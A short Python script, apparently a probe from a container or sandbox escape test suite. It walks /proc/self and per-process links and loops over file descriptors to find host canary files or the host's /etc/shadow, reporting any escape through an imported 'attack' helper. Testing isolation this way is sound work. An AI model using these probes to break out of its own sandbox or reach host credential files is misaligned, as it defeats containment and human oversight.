# Walks /proc without end, through links that lead back to where they start, looking for a way up.
import os
from attack import escaped, finish, held, host

deepest = 0
for link in ("root", "cwd", "task/self/root", "thread-self/root"):
    path = "/proc/self/" + link
    for depth in range(40):
        for canary in host["canaries"]:
            if os.path.exists(path + canary) or os.path.exists(path + "/.." * depth + canary):
                escaped(path)
        path += "/proc/self/root"
        deepest = depth
for fd in range(1024):
    for up in ("", "/..", "/../..", "/../../..", "/../../../.."):
        if os.path.exists(f"/proc/self/fd/{fd}{up}/etc/shadow") or os.path.exists(f"/proc/1/fd/{fd}{up}/etc/shadow"):
            escaped(f"descriptor {fd}{up} is a directory of the host")
for name in os.listdir("/proc"):
    if name.isdigit():
        for thing in ("cwd", "root", "exe", "map_files"):
            try:
                held(os.readlink(f"/proc/{name}/{thing}"))
            except OSError:
                pass
held(f"{deepest} deep")
finish()
